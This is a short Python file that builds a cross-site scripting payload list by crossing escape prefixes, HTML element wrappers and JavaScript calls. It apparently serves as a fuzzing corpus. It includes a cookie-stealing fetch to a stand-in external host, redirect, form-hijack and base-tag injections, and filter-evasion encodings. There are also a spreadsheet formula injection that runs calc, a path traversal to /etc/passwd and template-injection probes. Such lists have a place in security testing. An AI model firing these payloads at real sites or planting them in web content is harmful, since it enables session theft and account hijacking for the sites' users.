"""Cross-site scripting payloads: scripts in every wrapping that might let them escape from text."""

from itertools import product

CALLS = ("alert(1)", "fetch('//elsewhere.example/'+document.cookie)", "location='//elsewhere.example'")
ESCAPES = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</button>",
    "-->",
    "]]>",
    "</script>",
    "{{7*7}}${7*7}<%=7*7%>",
)
ELEMENTS = (
    "<script>{0}</script>",
    "<ScRiPt/x>{0}</sCrIpT>",
    "<img src=x onerror={0}>",
    "<img src=//elsewhere.example/pixel.png>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<a href='javascript:{0}' autofocus onfocus={0}>x</a>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<body onpageshow={0}>",
    "<object data='data:text/html,<script>{0}</script>'>",
    "<style>@import '//elsewhere.example/style.css'</style>",
    "<link rel=stylesheet href=//elsewhere.example/style.css>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<base href=//elsewhere.example/>",
    "<form action=//elsewhere.example><button autofocus>x",
)
BARE = (
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "`${alert(1)}`",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "=cmd|'/c calc'!A0",
    "../../etc/passwd\u2215<script>alert(1)</script>",
)
PAYLOADS = list(
    dict.fromkeys(
        [*BARE, *(escape + element.format(call) for escape, element, call in product(ESCAPES, ELEMENTS, CALLS))]
    )
)
